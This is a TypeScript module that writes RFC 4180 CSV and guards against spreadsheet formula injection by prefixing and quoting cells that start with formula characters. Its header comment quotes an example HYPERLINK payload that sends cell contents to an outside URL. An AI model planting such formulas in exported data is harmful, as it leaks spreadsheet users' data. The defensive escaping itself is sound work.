/**
 * format=csv: an answer as RFC 4180 text, a header line of field names then one line per row, CRLF line ends. A
 * cell is quoted when it holds a comma, a quote, a line break or leading or trailing spaces, with quotes doubled.
 *
 * Spreadsheets run a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula
 * (`=HYPERLINK("http://…"&A1,"click")` from a data file would reach the visitor's spreadsheet live). Such a cell
 * gets a `'` in front and is quoted, as OWASP's CSV-injection advice says; a spreadsheet shows the text, and a
 * program reading the CSV sees the `'` (docs/SECURITY.md). Numbers are written as they are: `-3` is a number, not
 * a formula, and a number field never holds anything else.
 */
import type { Cell, Field } from '../protocol.js';

const NEEDS_QUOTES = /[",\r\n]|^\s|\s$/;
const FORMULA_START = /^[=+\-@\t\r]/;

export function csvCell(cell: Cell): string {
  const text = String(cell);
  if (typeof cell !== 'number' && FORMULA_START.test(text)) return `"'${text.replaceAll('"', '""')}"`;
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

export function toCsv(fields: readonly Field[], rows: readonly Cell[][]): string {
  let out = fields.map((f) => csvCell(f.name)).join(',') + '\r\n';
  for (const row of rows) out += row.map(csvCell).join(',') + '\r\n';
  return out;
}
